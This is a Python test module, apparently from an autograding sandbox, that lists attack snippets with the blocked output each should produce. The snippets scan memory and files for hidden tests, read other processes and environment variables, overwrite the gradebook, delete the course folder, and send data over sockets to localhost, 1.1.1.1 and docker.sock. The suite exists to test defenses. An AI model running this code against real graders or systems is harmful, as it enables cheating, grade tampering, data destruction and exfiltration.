"""Attempts to read what is secret, and to carry it out."""

from functools import partial

from samples.attacks.attack import Attack
from samples.attacks.forgery import SOCKETS
from samples.submissions.vanilla import REFERENCE

steal = partial(Attack, kind="theft of hidden tests")
leak = partial(Attack, kind="exfiltration")
peek = partial(Attack, kind="course folder and peers")

# What to look for, written so that it does not find itself.
PATTERN = (
    'import re, os\nPATTERN = re.compile(rb"SEC[R]ET[0-9a-f]{32}|HIDDEN[ ]TESTS")\n'
)

ATTACKS = [
    steal(
        "search_of_own_memory",
        code=PATTERN
        + """
found = set()
for row in open("/proc/self/maps"):
    span, mode, *_ = row.split()
    start, end = (int(part, 16) for part in span.split("-"))
    if "r" not in mode or end - start > 1 << 28:
        continue
    try:
        with open("/proc/self/mem", "rb", 0) as memory:
            memory.seek(start)
            found.update(PATTERN.findall(memory.read(end - start)))
    except (OSError, ValueError, OverflowError):
        pass
print("searched", found)
""",
        shown="searched",
    ),
    steal(
        "search_of_objects_and_frames",
        code=PATTERN
        + """
import gc, sys
found = set()
for thing in gc.get_objects():
    if isinstance(thing, (dict, list, tuple, set)):
        try:
            for value in (thing.values() if isinstance(thing, dict) else thing):
                if isinstance(value, (str, bytes)):
                    if isinstance(value, str):
                        value = value.encode("utf-8", "replace")
                    found.update(PATTERN.findall(value))
        except Exception:
            pass
frame = sys._getframe()
while frame:
    text = repr(frame.f_locals)[:10**6].encode("utf-8", "replace")
    found.update(PATTERN.findall(text))
    frame = frame.f_back
print("searched", found)
""",
        shown="searched",
    ),
    steal(
        "search_of_all_files",
        code=PATTERN
        + """
found = set()
for root in ("/tmp", "/etc", "/dev", "/work", "/home", "/root", "/opt", "/srv", "/var",
             "/mnt", "/run", "@COURSE@"):
    for folder, names, files in os.walk(root):
        names[:] = [n for n in names if n not in ("site-packages", "lib", "share")]
        for file in files:
            path = os.path.join(folder, file)
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                    data = open(path, "rb").read()
                    found.update((path, one) for one in PATTERN.findall(data))
            except OSError:
                pass
print("searched", found)
""",
        shown="searched",
    ),
    steal(
        "reading_of_the_sockets",
        code=SOCKETS
        + """
for fd in sockets():
    try:
        print(fd, socket.socket(fileno=os.dup(fd)).recv(100_000, socket.MSG_DONTWAIT))
    except OSError as error:
        print(fd, type(error).__name__)
""",
        shown="BlockingIOError",
    ),
    steal(
        "memory_and_files_of_other_processes",
        code=PATTERN
        + """
import ctypes
libc = ctypes.CDLL(None)
for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    for file in ("mem", "environ", "cmdline", "maps", "stack", "fd", "root", "cwd"):
        try:
            path = f"/proc/{pid}/{file}"
            folder = file in ("fd", "root", "cwd")
            data = os.listdir(path) if folder else open(path, "rb").read()
            print(pid, file, data if pid == 1 else "")
        except OSError as error:
            print(pid, file, type(error).__name__)
    if pid != os.getpid():
        print("ptrace", pid, libc.ptrace(16, pid, 0, 0))
""",
        shown="PermissionError",
    ),
    steal(
        "environment_and_command_lines",
        code="""
import os, subprocess
print(sorted(os.environ.items()))
print(subprocess.run(["cat", "/proc/self/environ", "/proc/1/cmdline", "/proc/mounts"],
                     capture_output=True))
""",
        shown="HOME",
    ),
    steal(
        "hidden_sizes_in_a_later_message",
        assignment="vanilla",
        after=False,
        code="""
seen = []
def autoencoder(input_dims, hidden_layers, latent_dims):
    seen.append((input_dims, tuple(hidden_layers), latent_dims))
    raise ValueError(f"SIZES{seen}")
""",
    ),
    steal(
        "hidden_sizes_in_the_kind_of_error",
        assignment="vanilla",
        honest=REFERENCE,
        code="""
honest, seen = autoencoder, []
def autoencoder(input_dims, hidden_layers, latent_dims):
    seen.append((input_dims, tuple(hidden_layers), latent_dims))
    if seen[-1] != seen[0]:
        raise [ValueError, TypeError][latent_dims % 2](
            f"SIZES{seen[-1]}: autoencoder() takes {latent_dims} arguments")
    return honest(input_dims, hidden_layers, latent_dims)
""",
    ),
    steal(
        "hidden_sizes_printed",
        assignment="vanilla",
        after=False,
        code="""
import sys, os, threading, time
def autoencoder(input_dims, hidden_layers, latent_dims):
    text = f"SIZES{input_dims}, {hidden_layers}, {latent_dims}"
    print(text)
    print(text, file=sys.stderr)
    os.system(f"echo '{text}' >&2")
    os.write(1, text.encode())
    get_ipython().kernel.session.send(
        get_ipython().kernel.iopub_socket, "stream", {"name": "stdout", "text": text})
    for fd in range(3, 40):
        try:
            if "socket" in os.readlink(f"/proc/self/fd/{fd}"):
                os.write(fd, text.encode())
        except OSError:
            pass
""",
    ),
    peek(
        "course_folder_by_its_path",
        code="""
import os
for name in ("gradebook.db", "solutions/quiz/quiz.ipynb",
             "submitted/peer/quiz/quiz.ipynb"):
    path = os.path.join("@COURSE@", name)
    try:
        print("got", open(path, "rb").read())
    except OSError as error:
        print(type(error).__name__)
    for above in ("/proc/1/root", "/proc/self/root", "/tmp/..", "/proc/self/cwd/../.."):
        print(os.path.exists(above + path))
""",
        shown="FileNotFoundError",
    ),
    peek(
        "course_folder_from_the_checks",
        code="""
import os, helpers, grading
for module in (helpers, grading):
    folder = os.path.dirname(module.__file__)
    for _ in range(4):
        folder = os.path.dirname(folder)
        for name in ("solutions", "tests", "gradebook.db", "submitted", ".git"):
            if os.path.exists(os.path.join(folder, name)):
                print("SECRETPLACE", folder, name)
print("looked")
""",
        shown="looked",
    ),
    peek(
        "gradebook_raised_with_sqlite",
        code="""
import sqlite3
try:
    gradebook = sqlite3.connect("@COURSE@/gradebook.db")
    gradebook.execute("update grade set auto_score = 100")
    gradebook.commit()
    print("raised")
except sqlite3.Error as error:
    print("no gradebook", error)
""",
        shown="no gradebook",
    ),
    peek(
        "course_folder_written",
        code="""
import os, shutil
for path in ("gradebook.db", ".grading/journal.db", "solutions/quiz/quiz.ipynb"):
    try:
        os.makedirs(os.path.dirname("@COURSE@/" + path), exist_ok=True)
        open("@COURSE@/" + path, "w").write("mine")
        print("written")
    except OSError as error:
        print(type(error).__name__)
shutil.rmtree("@COURSE@", ignore_errors=True)
print("tried")
""",
        shown="tried",
    ),
    peek(
        "links_to_the_course_folder",
        code="""
import os
for target in ("@COURSE@", "/proc/1/root@COURSE@", "/proc/1/cwd"):
    link = f"/tmp/link{abs(hash(target))}"
    os.symlink(target, link)
    try:
        print("got", os.listdir(link))
    except OSError as error:
        print(type(error).__name__)
""",
        shown="Error",
    ),
    leak(
        "tcp_to_this_machine_and_the_net",
        code="""
import socket
for address in (("127.0.0.1", @PORT@), ("localhost", @PORT@), ("10.0.2.2", @PORT@),
                ("1.1.1.1", 80)):
    try:
        socket.create_connection(address, 1).send(b"secret")
        print("connected")
    except OSError as error:
        print(type(error).__name__)
""",
        shown="Error",
    ),
    leak(
        "udp_dns_and_raw",
        code="""
import socket
for kind, to in ((socket.SOCK_DGRAM, ("127.0.0.1", @PORT@)),
                 (socket.SOCK_RAW, ("1.1.1.1", 0))):
    try:
        socket.socket(socket.AF_INET, kind).sendto(b"secret", to)
        print("sent")
    except OSError as error:
        print(type(error).__name__)
try:
    print(socket.gethostbyname("example.org"))
except OSError as error:
    print(type(error).__name__)
""",
        shown="Error",
    ),
    leak(
        "unix_sockets",
        code="""
import socket
for address in ("@SOCKET@", "\\0grading-attack", "/run/docker.sock",
                "/run/dbus/system_bus_socket", "/run/systemd/private"):
    try:
        one = socket.socket(socket.AF_UNIX)
        one.connect(address)
        one.send(b"secret")
        print("connected")
    except OSError as error:
        print(type(error).__name__)
""",
        shown="Error",
    ),
    leak(
        "shared_memory_of_the_machine",
        code="""
import ctypes, os
libc = ctypes.CDLL(None)
print("shm", [libc.shmget(key, 0, 0) for key in (0x5EC, 1, 2)])
print(os.listdir("/dev/shm"), os.listdir("/dev"))
""",
        shown="shm [-1, -1, -1]",
    ),
]
